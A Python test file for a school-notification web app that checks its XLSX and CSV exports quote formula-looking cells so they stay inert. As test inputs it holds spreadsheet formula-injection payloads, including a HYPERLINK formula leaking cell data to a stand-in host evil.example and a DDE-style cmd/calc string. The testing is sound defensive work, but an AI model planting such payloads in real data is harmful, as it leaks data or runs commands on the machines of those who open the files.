"""Every XLSX and CSV export keeps hostile text inert: a cell starting with = + - @, a tab or a
carriage return is written as text, never as a formula (notify/spreadsheet_cells.py)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook
from sqlalchemy import select

from notify.extensions import db
from notify.models import MemberUnit, School, SchoolNotice
from notify.schools import tokens
from notify.spreadsheet_cells import FORMULA_TRIGGERS
from tests.conftest import login, take_to
from tests.notify.tipoffs.fixtures import make_tipoff

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
# One for each of = + - @; a tab or CR in front of a formula (some programs skip them) is tried on
# the tip-offs, whose address is kept as typed.
ATTACKS = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _is_live_formula(value) -> bool:
    # A signed number alone (an E.164 phone) is a value, not a formula.
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not re.fullmatch(r"[+-]\d+(\.\d+)?", value)
    )


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [
        cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None
    ]


def _assert_inert_xlsx(data: bytes, text: str) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f" or _is_live_formula(c.value)]
    assert any(c.value == "'" + text for c in cells)  # still there, as typed, behind the quote


def _assert_inert_csv(data: bytes, text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [c for c in cells if _is_live_formula(c)]
    assert "'" + text in cells


T0 = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)


@pytest.fixture
def acknowledged_by(client, sample_jurisdiction, sample_draft, sample_users):
    """A school head types a formula as their name on the public acknowledgement page."""

    def acknowledge(name: str):
        from notify.demo.schools import seed_schools

        seed_schools(sample_jurisdiction)
        db.session.commit()
        with freeze_time(T0):
            take_to(sample_draft, "published", sample_users)
        notice = db.session.scalars(select(SchoolNotice).order_by(SchoolNotice.id)).first()
        token = tokens.make(sample_draft.id, notice.school_id)
        with freeze_time(T0):
            assert client.post(f"/a/{token}", data={"name": name}).status_code == 303
        return sample_draft

    return acknowledge


@pytest.mark.parametrize("name", ATTACKS, ids=["=", "+", "-", "@"])
def test_the_schools_export_keeps_a_heads_formula_inert(client, acknowledged_by, name):
    revision = acknowledged_by(name)
    login(client, "admin")
    xlsx = client.get(f"/admin/revisions/{revision.id}/schools.xlsx")
    assert xlsx.status_code == 200
    _assert_inert_xlsx(xlsx.data, name)
    answer = client.get(f"/admin/revisions/{revision.id}/schools.csv")
    assert answer.status_code == 200
    _assert_inert_csv(answer.data, name)


def test_the_schools_export_keeps_the_directorys_text_inert(client, acknowledged_by):
    revision = acknowledged_by("校长")
    school = db.session.scalars(select(School).order_by(School.id)).first()
    school.name = HOSTILE
    db.session.commit()
    login(client, "admin")
    _assert_inert_xlsx(client.get(f"/admin/revisions/{revision.id}/schools.xlsx").data, HOSTILE)
    _assert_inert_csv(client.get(f"/admin/revisions/{revision.id}/schools.csv").data, HOSTILE)


def test_the_statistics_export_keeps_the_offices_text_inert(client, sample_published, sample_users):
    login(client, "office")
    warning_id = sample_published.warning_id
    summary = {
        "measures_summary": HOSTILE,
        "effects": "+1+1",
        "problems": "@SUM(1)",
        "suggestions": "-1+2",
        "filled_by": "=1+1",
    }
    assert client.post(f"/admin/warnings/{warning_id}/records/summary", data=summary).status_code == 302
    answer = client.get(f"/admin/warnings/{warning_id}/records/statistics.xlsx")
    assert answer.status_code == 200
    _assert_inert_xlsx(answer.data, HOSTILE)


def test_the_written_report_export_keeps_its_lines_inert(client, sample_published, sample_users):
    login(client, "office")
    warning_id = sample_published.warning_id
    report = {"title": "=1+1", "body": f"第一段\n{HOSTILE}\n-2+3"}
    assert client.post(f"/admin/warnings/{warning_id}/records/report", data=report).status_code == 302
    answer = client.get(f"/admin/warnings/{warning_id}/records/report.xlsx")
    assert answer.status_code == 200
    _assert_inert_xlsx(answer.data, HOSTILE)


@pytest.mark.parametrize("lead", ["\t", "\r"], ids=["tab", "cr"])
def test_the_tipoff_export_keeps_citizens_and_directory_text_inert(
    client, sample_jurisdiction, sample_users, lead
):
    tipoff, _ = make_tipoff(sample_jurisdiction)
    tipoff.address = lead + HOSTILE  # a tab or CR in front slipped past the old check
    unit = db.session.scalars(select(MemberUnit).order_by(MemberUnit.id)).first()
    unit.name_zh = HOSTILE
    tipoff.assigned_unit = unit
    db.session.commit()
    login(client, "office")
    answer = client.get("/admin/tipoffs/export.csv")
    assert answer.status_code == 200
    _assert_inert_csv(answer.data, lead + HOSTILE)
    _assert_inert_csv(answer.data, HOSTILE)
